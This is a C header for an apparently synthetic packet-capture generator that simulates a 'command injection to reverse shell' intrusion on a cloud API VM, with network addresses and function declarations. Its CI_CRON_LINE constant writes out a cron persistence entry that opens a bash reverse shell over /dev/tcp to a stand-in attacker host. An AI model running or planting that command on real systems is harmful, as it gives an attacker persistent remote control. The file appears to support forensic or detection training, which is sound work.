/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ci.h - the world of the "command injection to reverse shell (network only)" story: the
 * API VM, its neighbours, the attacker, and what the benign and attack parts share (the
 * capture writer, ephemeral ports, the notes of where each attack step landed).
 */
#ifndef CI_H
#define CI_H

#include <stddef.h>
#include <stdint.h>

#include "pcap.h"
#include "sb.h"

#define CI_STORY "cmd-injection"
#define CI_TITLE "Command injection to reverse shell (network only)"
#define CI_VM_NAME "api-vm-1"
#define CI_VM_IP "10.0.3.15"
#define CI_RESOLVER_IP "10.0.0.2"
#define CI_INVENTORY_IP "10.0.4.20"
#define CI_IMDS_IP "169.254.169.254"
#define CI_GRAPHITE_IP "10.0.6.20"
#define CI_ATTACKER_WEB_IP "203.0.113.87"   /* sends the injected requests */
#define CI_ATTACKER_C2_IP "198.51.100.23"   /* cloud VM listening on 3000, never resolved */
#define CI_C2_PORT 3000
#define CI_ROLE "api-vm-role"
#define CI_ACCOUNT "493817265013"
#define CI_PCAP "pcap/api-vm-1-eth0-20261103.pcap"
#define CI_EXPORT "customers-2026-10.csv"
#define CI_CRON_LINE "*/15 * * * * /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.23/3000 0>&1'"

/* The capture: one day, 2026-11-03 UTC. */
#define CI_Y 2026
#define CI_MO 11
#define CI_D 3

struct ci_world {
    struct pcap_writer *w;
    int scale;
    int64_t day0;                      /* 00:00:00 of the day, µs */
    struct pcap_host vm, gw, resolver, inventory, imds;
    uint16_t next_port;                /* the VM's next ephemeral port */
    size_t marks[64];                  /* the frames the attack notes cite (pcap marks) */
    int64_t mark_t[64];                /* µs */
    char *mark_what[64];
    int nmarks;
    uint64_t http_requests, dns_queries, sessions;
};

/* Time of day hh:mm:ss.us as µs since the epoch. */
int64_t ci_at(const struct ci_world *cw, int h, int m, int s, int us);
/* A host at `ip` seen through the VPC router (remote) or on the link (local MAC). */
struct pcap_host ci_remote(const struct ci_world *cw, const char *ip, uint8_t ttl);
/* The VM's next ephemeral port (32768-60999, wrapping). */
uint16_t ci_port(struct ci_world *cw);
/* Open a TCP session (random initial sequence numbers) from `cli` port `cport` (-1: the VM's
 * next ephemeral port, 0: a random client port) to `srv`:`sport`. */
void ci_open(struct ci_world *cw, struct pcap_tcp *s, int64_t t, int64_t rtt,
             const struct pcap_host *cli, int cport, const struct pcap_host *srv, uint16_t sport);
/* A SYN from the VM to `srv`:`sport` refused with RST. */
void ci_refused(struct ci_world *cw, int64_t t, int64_t rtt, const struct pcap_host *srv,
                uint16_t sport);
/* A DNS lookup by the VM at `t` (A record answered by `ip`, or NXDOMAIN when ip is NULL). */
void ci_dns(struct ci_world *cw, int64_t t, const char *name, const char *cname,
            const char *ip);
/* An attack note at `t` (µs) citing the next frame added to the capture. */
void ci_note(struct ci_world *cw, int64_t t, const char *what);

/* Benign background: web clients, health checks, DNS, NTP, apt, inventory calls. */
void ci_benign(struct ci_world *cw);
/* The attack, with its notes. */
void ci_attack(struct ci_world *cw);

#endif
